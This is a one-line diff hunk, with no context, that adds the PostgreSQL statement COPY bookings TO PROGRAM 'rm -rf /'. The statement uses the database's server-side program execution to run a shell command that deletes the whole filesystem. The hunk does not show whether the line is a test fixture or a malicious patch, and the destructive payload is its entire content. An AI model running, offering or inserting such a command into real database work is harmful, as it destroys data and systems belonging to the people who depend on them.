@@ -1,0 +1,1 @@
+COPY bookings TO PROGRAM 'rm -rf /'
